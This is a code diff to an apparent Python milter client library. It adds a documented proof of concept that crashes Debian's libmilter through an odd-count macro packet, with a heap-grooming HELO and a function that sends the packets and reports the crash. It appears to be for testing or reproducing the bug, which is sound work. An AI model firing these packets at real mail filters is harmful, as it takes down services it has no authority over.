@@ -807,3 +807,38 @@ def session(
         socket_spec, timeout, send_only_requested_macros=send_only_requested_macros
     ) as client:
         return client.run_session(sender=sender, rcpts=rcpts, login=login, **kwargs)  # type: ignore[arg-type]
+
+
+# -- the libmilter crash -----------------------------------------------------------
+
+# Debian's libmilter walks the macros of an SMFIC_MACRO packet as name/value
+# pairs until a NULL; with an odd number of strings it steps over the NULL and
+# reads past the end of its argv.  A 20-byte HELO first leaves "AAAAAAAA" in
+# exactly the heap slot it then reads, so the next getsymval() (our envfrom
+# looks up {auth_authen}) dereferences 0x4141... and the process dies with
+# SIGSEGV, every time.  No MTA sends this; any peer that reaches the socket can.
+CRASH_OPTNEG = encode_optneg(6, 0x1FF, 0)
+CRASH_CONNECT = b"client.example\0" + b"4" + struct.pack("!H", 25) + b"192.0.2.1\0"
+CRASH_HELO = b"A" * 20 + b"\0"
+CRASH_MACROS = SMFIC_MAIL + b"x" * 40 + b"0\0"
+
+
+def send_crash_packets(socket_spec: str, timeout: float = 5.0) -> bool:
+    """Send the crashing packets; True when the milter hung up instead of answering MAIL."""
+    with MilterClient(socket_spec, timeout) as client:
+        for command, data in (
+            (SMFIC_OPTNEG, CRASH_OPTNEG),
+            (SMFIC_CONNECT, CRASH_CONNECT),
+            (SMFIC_HELO, CRASH_HELO),
+        ):
+            client.send_raw(command, data)
+            client.read_packet()
+        client.send_bytes(
+            encode_packet(SMFIC_MACRO, CRASH_MACROS)
+            + encode_packet(SMFIC_MAIL, b"<a@example.com>\0")
+        )
+        try:
+            client.read_packet()
+        except (ConnectionError, OSError):
+            return True
+        return False
